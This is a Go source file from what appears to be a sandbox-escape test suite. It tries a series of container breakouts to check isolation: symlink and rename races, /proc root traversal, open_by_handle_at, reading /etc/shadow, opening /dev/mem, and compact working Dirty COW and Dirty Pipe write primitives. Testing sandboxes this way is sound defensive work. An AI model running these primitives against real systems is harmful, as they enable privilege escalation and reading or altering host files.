package sandboxtest

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func fileAttempts() []attempt {
	return []attempt{
		{"host-file", "read a file of the host by its path", "a host directory mounted by mistake", anyone, func(tg target) outcome { return reads(tg.SecretFile, tg.Secret) }},
		{"shadow", "read the host's password hashes", "a host directory mounted by mistake", root, func(target) outcome { return reads("/etc/shadow", "root:") }},
		{"proc-root", "leave by /proc/1/root and /proc/self/root", "/proc/*/root of another mount namespace", anyone, func(tg target) outcome {
			for _, root := range []string{"/proc/1/root", "/proc/self/root", "/proc/self/root/../..", "/proc/1/cwd", "/proc/thread-self/root"} {
				if o := reads(root+tg.SecretFile, tg.Secret); o.Escaped {
					return o
				}
			}
			return outcome{false, "they lead nowhere else"}
		}},
		{"symlink", "read a file of the host by a link in /tmp", "docker cp CVE-2018-15664: links out of the root", anyone, func(tg target) outcome {
			link := filepath.Join(tg.Tmp, "link")
			os.Symlink(strings.Repeat("../", 40)+tg.SecretFile[1:], link)
			defer os.Remove(link)
			return reads(link, tg.Secret)
		}},
		{"planted-links", "read a file of the host by links that its code came with", "runc CVE-2021-30465, buildkit CVE-2024-23651: links in images", anyone, func(tg target) outcome {
			for _, name := range names(filepath.Join(tg.Task, "links")) {
				if o := reads(filepath.Join(tg.Task, "links", name), tg.Secret); o.Escaped {
					return outcome{true, "by the link " + name}
				}
			}
			return outcome{false, "they lead nowhere else"}
		}},
		{"planted-device", "open a device that its code came with", "device nodes in images", "root alone can plant one, where the file system has devices", func(tg target) outcome {
			f, err := os.OpenFile(filepath.Join(tg.Task, "device"), os.O_RDWR, 0)
			if err == nil {
				f.Close()
			}
			return tried(err)
		}},
		{"lease", "hold up who opens its code", "leases on files: fcntl F_SETLEASE", anyone, func(tg target) outcome {
			for _, file := range names(tg.Task) {
				fd, err := unix.Open(filepath.Join(tg.Task, file), unix.O_RDONLY|unix.O_NOFOLLOW|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
				if err != nil {
					continue
				}
				_, err = unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_WRLCK)
				unix.Close(fd)
				if err == nil {
					return outcome{true, "it had a lease on " + file}
				}
			}
			return outcome{false, "it got none"}
		}},
		{"link-race", "read a file of the host while a directory and a link change places", "runc CVE-2021-30465: races of links", anyone, func(tg target) outcome {
			return racesLink(tg)
		}},
		{"file-handle", "open a file by its handle, which needs no path", "shocker: open_by_handle_at", root, func(tg target) outcome {
			h, mount, err := unix.NameToHandleAt(unix.AT_FDCWD, tg.Task, 0)
			_ = mount
			if err != nil {
				return tried(err)
			}
			dir, err := unix.Open("/", unix.O_RDONLY, 0)
			if err != nil {
				return tried(err)
			}
			if task, err := unix.Open(tg.Task, unix.O_RDONLY, 0); err == nil {
				dir = task
			}
			_, err = unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
			return tried(err)
		}},
		{"write-root", "write into the root, /etc, /usr and /opt", "a root that is not read-only", root, func(tg target) outcome {
			for _, dir := range []string{"/", "/etc", "/usr", "/usr/bin", "/var", "/opt", "/dev", "/mnt"} {
				path := filepath.Join(dir, "enfold-escape-"+tg.Word)
				if os.WriteFile(path, nil, 0o600) == nil {
					os.Remove(path)
					return outcome{true, "made " + path}
				}
			}
			return outcome{false, "all are read-only"}
		}},
		{"write-task", "change its own code", "code that is not read-only", anyone, func(tg target) outcome {
			for _, err := range []error{
				os.WriteFile(filepath.Join(tg.Task, "new"), nil, 0o600), os.Chmod(tg.Task, 0o777), os.Remove(filepath.Join(tg.Task, "spare.txt")),
			} {
				if err == nil {
					return outcome{true, "it could"}
				}
			}
			return outcome{false, "it is read-only"}
		}},
		{"device-memory", "open /dev/mem, /dev/kmsg, /dev/port and disks", "device nodes in a privileged container", root, func(target) outcome {
			for _, d := range []string{"/dev/mem", "/dev/kmsg", "/dev/port", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/fuse", "/dev/kvm", "/dev/loop-control"} {
				if f, err := os.Open(d); err == nil {
					f.Close()
					return outcome{true, d + " opens"}
				}
			}
			return outcome{false, "none is there"}
		}},
		{"mknod", "make a device node for the machine's memory", "CAP_MKNOD", root, func(tg target) outcome {
			path := filepath.Join(tg.Tmp, "mem")
			defer os.Remove(path)
			return tried(unix.Mknod(path, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 1))))
		}},
	}
}

func found(file, text, secret string, err error) outcome {
	switch {
	case err != nil:
		return outcome{false, err.Error()}
	case secret == "" && text == "":
		return outcome{false, file + " is empty"}
	case strings.Contains(text, secret):
		return outcome{true, file + " could be read"}
	}
	return outcome{false, file + " has something else"}
}

// racesLink reads a path while the directory in its middle is exchanged with a link that leads to the host's.
func racesLink(tg target) outcome {
	dir, link := filepath.Join(tg.Tmp, "race-dir"), filepath.Join(tg.Tmp, "race-link")
	defer os.RemoveAll(dir)
	defer os.RemoveAll(link)
	if err := os.Mkdir(dir, 0o755); err != nil {
		return tried(err)
	}
	if err := os.Symlink(filepath.Dir(tg.SecretFile), link); err != nil {
		return tried(err)
	}
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		for {
			select {
			case <-stop:
				return
			default:
				unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
			}
		}
	}()
	for range 500 {
		for _, path := range []string{dir, link} {
			if text, err := os.ReadFile(filepath.Join(path, filepath.Base(tg.SecretFile))); err == nil && string(text) == tg.Secret {
				return outcome{true, "it could be read"}
			}
		}
	}
	return outcome{false, "not in a thousand readings"}
}

// pageAttempts are on what files have in memory, where read-only is up to the kernel alone.
func pageAttempts() []attempt {
	const patched = "a kernel without the hole refuses it everywhere"
	return []attempt{
		{"dirty-cow", "write into a read-only file by /proc/self/mem", "CVE-2016-5195: Dirty COW", patched, func(tg target) outcome {
			return changesCode(tg, func(f *os.File) error {
				page, err := unix.Mmap(int(f.Fd()), 0, 8, unix.PROT_READ, unix.MAP_SHARED)
				if err != nil {
					return err
				}
				mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
				if err != nil {
					return err
				}
				defer mem.Close()
				_, err = mem.WriteAt([]byte("changed!"), int64(uintptr(unsafe.Pointer(&page[0]))))
				return err
			})
		}},
		{"dirty-pipe", "write into a read-only file by the page that splice has put into a pipe", "CVE-2022-0847: Dirty Pipe", patched, func(tg target) outcome {
			return changesCode(tg, func(f *os.File) error {
				var p [2]int
				if err := unix.Pipe2(p[:], unix.O_NONBLOCK|unix.O_CLOEXEC); err != nil {
					return err
				}
				full := make([]byte, 64<<10) // every buffer of the pipe may be merged with afterwards
				n, _ := unix.Write(p[1], full)
				unix.Read(p[0], full[:n])
				var off int64
				if _, err := unix.Splice(int(f.Fd()), &off, p[1], nil, 1, 0); err != nil {
					return err
				}
				_, err := unix.Write(p[1], []byte("hanged!"))
				return err
			})
		}},
		{"share-write", "map a read-only file for writing", "read-only mounts that a mapping forgets", root, func(tg target) outcome {
			fd, err := unix.Open(filepath.Join(tg.Task, "code.txt"), unix.O_RDWR, 0)
			if err != nil {
				return tried(err)
			}
			_, err = unix.Mmap(fd, 0, 8, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
			return tried(err)
		}},
		{"file-flags", "change the flags of a file of its code", "ioctls that forget a read-only mount", "not every file system has flags", func(tg target) outcome {
			f, err := os.Open(filepath.Join(tg.Task, "code.txt"))
			if err != nil {
				return tried(err)
			}
			defer f.Close()
			flags, err := unix.IoctlGetInt(int(f.Fd()), unix.FS_IOC_GETFLAGS)
			if err != nil {
				return tried(err)
			}
			return tried(unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, flags))
		}},
		{"freeze", "freeze the disk below its code", "FIFREEZE on a bound directory", harms + "it would freeze the host's disk", func(tg target) outcome {
			dir, err := os.Open(tg.Task)
			if err != nil {
				return tried(err)
			}
			defer dir.Close()
			const fifreeze = 0xc0045877
			return call(unix.SYS_IOCTL, dir.Fd(), fifreeze, 0)
		}},
	}
}

// changesCode is an escape if a file of its code reads differently afterwards.
func changesCode(tg target, how func(*os.File) error) outcome {
	path := filepath.Join(tg.Task, "code.txt")
	before, err := os.ReadFile(path)
	if err != nil {
		return tried(err)
	}
	f, err := os.Open(path)
	if err != nil {
		return tried(err)
	}
	defer f.Close()
	err = how(f)
	after, _ := os.ReadFile(path)
	return outcome{string(before) != string(after), fmt.Sprintf("the file has %q, after %v", after, err)}
}
